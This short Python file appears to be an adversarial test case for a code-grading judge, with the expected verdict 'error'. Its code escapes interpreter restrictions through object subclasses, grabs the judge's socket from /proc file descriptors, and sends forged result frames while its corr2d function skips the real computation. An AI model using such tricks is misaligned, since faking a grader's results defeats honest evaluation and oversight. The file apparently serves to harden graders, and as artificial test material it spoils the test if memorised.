# /// attack
# rows = [66]
# title = "answer with a reply that was sent before"
# verdict = "error"
# ///
sys = next(
    c for c in ().__class__.__base__.__subclasses__() if c.__name__ == "catch_warnings"
)()._module.sys

os, struct = sys.modules["os"], sys.modules["struct"]
socket = sys.modules["importlib"].import_module("socket")
judge = next(
    socket.socket(fileno=os.dup(n))
    for n in range(3, 1000)
    if os.path.exists(f"/proc/self/fd/{n}") and "socket" in os.readlink(f"/proc/self/fd/{n}")
)
judge.setblocking(True)


def frame(number, header, body=b""):
    return struct.pack("<QIQ", number, len(header), len(body)) + header + body



def corr2d(X, K):
    for number in range(100):
        judge.sendall(frame(number, b'[["a","float64",[1,1],0,8,0,null]]', bytes(8)))
    return X
